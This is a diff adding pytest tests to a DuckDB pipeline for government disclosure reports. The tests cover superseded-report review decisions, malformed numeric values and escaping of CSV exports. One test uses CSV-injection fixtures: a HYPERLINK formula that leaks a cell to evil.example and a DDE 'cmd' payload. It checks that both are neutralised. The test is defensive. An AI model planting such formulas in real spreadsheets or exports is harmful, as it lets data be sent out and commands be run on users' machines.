@@ -3,12 +3,14 @@ and a seed whose outcome rows do not add up (seeds/001). The decisions are writt
 warehouse exists, keyed by the content hash of the files, as an analyst would."""
 from __future__ import annotations
 
+import csv
 import hashlib
 import re
 import shutil
 from decimal import Decimal
 
 import duckdb
+import polars as pl
 import pytest
 from click.testing import CliRunner
 from dagster import SkipReason, build_sensor_context
@@ -18,7 +20,9 @@ from assets.cli import main
 from assets.resources import RawDirectory, ReviewDirectory, Warehouse
 from assets.run import run_ingest
 from assets.schedules import raw_files_sensor
+from pipeline.parsing import spec
 from pipeline.review import read_review
+from pipeline.warehouse.spreadsheet import formula_safe
 from pipeline.warehouse.sql import run_file
 from pipeline.warehouse.status import status_report
 
@@ -173,6 +177,32 @@ def test_decisions_outlive_a_rebuild_and_wait_for_a_report_that_is_not_there(tmp
     assert query(wh, same) == query(wh_first, same)
 
 
+def test_a_decision_on_a_report_a_revised_copy_supersedes_is_stale_and_says_which_report_to_decide_on(tmp_path):
+    """洪泽区 2023 reviewed, then the agency republishes it (one narrative sentence revised): the
+    revised copy is the current report, the decision stays bound to the report it was made on.
+    The views never showed the correction any more; now review_decision says so too."""
+    k1 = rid(KIRO_1)
+    review = write(tmp_path / "review", {
+        "cells.csv": CELLS + f'{k1},fact_review_litigation,review,total,0,11,4,"行政复议 10 1 0 0 0",li.wei,misprinted\n',
+        "flags.csv": FLAGS + f"{k1},review_total,dismissed,4,,li.wei,the totals are misprinted\n"})
+    raw, wh = raw_dir(tmp_path, KIRO_1), tmp_path / "ogi.duckdb"
+    run_ingest(raw, wh, review_dir=review)
+    assert set(outcomes(wh).values()) == {"applied"}
+    revised = KIRO_1.read_text(encoding="utf-8").replace("一、总体情况", "一、总体情况（修订版）", 1)
+    (raw / "kiro_1 revised.txt").write_text(revised, encoding="utf-8")
+    outcome = run_ingest(raw, wh, review_dir=review)
+    (current,) = query(wh, "SELECT report_id FROM v_report")[0]
+    assert current != k1 and query(wh, "SELECT status FROM dim_report WHERE report_id = ?", [k1]) == [("superseded",)]
+    assert query(wh, "SELECT count, reviewed FROM v_fact_review_litigation WHERE report_id = ? "
+                     "AND proceeding = 'review' AND result = 'total'", [current]) == [(0, False)]
+    assert outcomes(wh) == {("cells.csv", 2): "report_superseded", ("flags.csv", 2): "report_superseded"}
+    assert query(wh, "SELECT count(*) FROM v_reviewed_cell") == [(0,)]
+    (detail,) = query(wh, "SELECT outcome_detail FROM review_decision WHERE file = 'cells.csv'")[0]
+    assert current in detail and "kiro_1 revised.txt" in detail
+    assert outcome.summary.review == {"report_superseded": 2}
+    assert any(n.startswith("review cells.csv:2 report_superseded: ") for n in outcome.summary.notes)
+
+
 def test_malformed_lines_are_reported_and_the_good_ones_apply(tmp_path):
     k1 = rid(KIRO_1)
     good = [f'{k1},fact_review_litigation,review,total,0,11,4,"行政复议 10 1 0 0 0",li.wei,总计 misprinted',
@@ -212,6 +242,62 @@ def test_malformed_lines_are_reported_and_the_good_ones_apply(tmp_path):
                      "AND applicant_type = 'total'") == [(None, 0)]          # blank: NULL, never 0
     assert outcome.summary.review == {"applied": 2, "malformed": len(problems)}
     assert sum(n.startswith("review ") and " malformed: " in n for n in outcome.summary.notes) == len(problems)
+
+
+def test_a_value_in_a_spelling_no_decimal_holds_is_a_malformed_line_and_the_run_loads(tmp_path):
+    """Decimal() reads 0e99 (a zero DECIMAL(20,4) cannot take: it once failed the whole load,
+    naming no line), 1E+39, NaN, inf, 1e-30 and 1_000; a reviewer writes digits."""
+    k1 = rid(KIRO_1)
+    spellings = ["0e99", "1E+39", "NaN", "inf", "-Infinity", "1e-30", "1e3", "1_000", "9" * 400]
+    rows = [label.code for label in spec.APPLICATION_ROWS]        # one cell each: no line decides another's
+    bad = [f'{k1},fact_application,{row},total,0,{v},1,"q",li.wei,r' for row, v in zip(rows, spellings)]
+    good = [f'{k1},fact_review_litigation,review,total,0,11,4,"行政复议 10 1 0 0 0",li.wei,总计 misprinted',
+            f'{k1},fact_review_litigation,review,upheld,10,-0,4,"q",li.wei,a minus zero is zero']
+    review = write(tmp_path / "review", {"cells.csv": CELLS + "\n".join(good[:1] + bad[:7] + good[1:]) + "\n",
+                                         "more.csv": CELLS + "\n".join(bad[7:]) + "\n"})
+    wh = tmp_path / "ogi.duckdb"
+    outcome = run_ingest(raw_dir(tmp_path, KIRO_1), wh, review_dir=review)
+    assert outcome.error is None and outcome.summary.loaded == 1
+    problems = query(wh, "SELECT file, line, reason FROM review_problem ORDER BY file, line")
+    assert [(f, line) for f, line, _ in problems] == [("cells.csv", n) for n in range(3, 10)] + [("more.csv", 2),
+                                                                                                ("more.csv", 3)]
+    for (_, _, reason), spelling in zip(problems, spellings):
+        assert reason.startswith(f"value {spelling!r} is not a number") or reason.endswith("is out of range")
+    assert outcomes(wh) == {("cells.csv", 2): "applied", ("cells.csv", 10): "applied"}
+    assert query(wh, "SELECT result, count FROM v_fact_review_litigation WHERE proceeding = 'review' "
+                     "AND result IN ('upheld', 'total') ORDER BY result") == [("total", 11), ("upheld", 0)]
+    notes = [n for n in outcome.summary.notes if " malformed: " in n]
+    assert notes[0].startswith("review cells.csv:3 malformed: value '0e99' is not a number") and len(notes) == 9
+    assert "review decisions (review_decision): 2 applied, 9 malformed" in status_report(wh)
+
+
+def test_exported_csv_text_never_runs_as_a_formula_and_numbers_stay_numbers(tmp_path):
+    """A review line's free text goes into ogi export's CSV: a quote or reason starting with = + - @
+    would run in the analyst's spreadsheet (OWASP CSV injection); it gets a leading '. Parquet and
+    the numbers (a negative change included) are as stored."""
+    k1 = rid(KIRO_1)
+    hostile = {"quote": '=HYPERLINK("http://evil.example/?"&A1,"行政复议 11")', "reviewer": "@li.wei",
+               "reason": "+1 missed; -cmd|' /C calc'!A0"}
+    review = write(tmp_path / "review", {"cells.csv": CELLS + (
+        f'{k1},fact_review_litigation,review,total,0,11,-4,"{hostile["quote"].replace(chr(34), chr(34) * 2)}",'
+        f'{hostile["reviewer"]},"{hostile["reason"]}"\n')})
+    wh, out = tmp_path / "ogi.duckdb", tmp_path / "out"
+    run_ingest(raw_dir(tmp_path, KIRO_1, KIRO_2), wh, review_dir=review)
+    result = CliRunner().invoke(main, ["export", "--warehouse", str(wh), "--out", str(out),
+                                       "--only", "review_decision", "--only", "v_application_yoy"])
+    assert result.exit_code == 0, result.output
+    with open(out / "review_decision.csv", encoding="utf-8", newline="") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert {k: row[k] for k in hostile} == {k: "'" + v for k, v in hostile.items()}
+    assert {k: formula_safe(v) for k, v in hostile.items()} == {k: row[k] for k in hostile}   # ogi sql's rule
+    assert [formula_safe(v) for v in (-4, "li.wei", None)] == [-4, "li.wei", None]
+    assert (row["page"], row["reviewed_value"], row["written_value"]) == ("'-4", "11.0000", "0.0000")
+    assert row["outcome"] == "applied"
+    exact = pl.read_parquet(out / "review_decision.parquet").row(0, named=True)
+    assert {k: exact[k] for k in hostile} == hostile
+    with open(out / "v_application_yoy.csv", encoding="utf-8", newline="") as fh:
+        changes = [r["change"] for r in csv.DictReader(fh) if r["change"]]
+    assert any(c.startswith("-") for c in changes) and not any(c.startswith("'") for c in changes)
 
 
 def test_a_spreadsheet_export_with_a_bom_or_in_gb18030_reads(tmp_path):
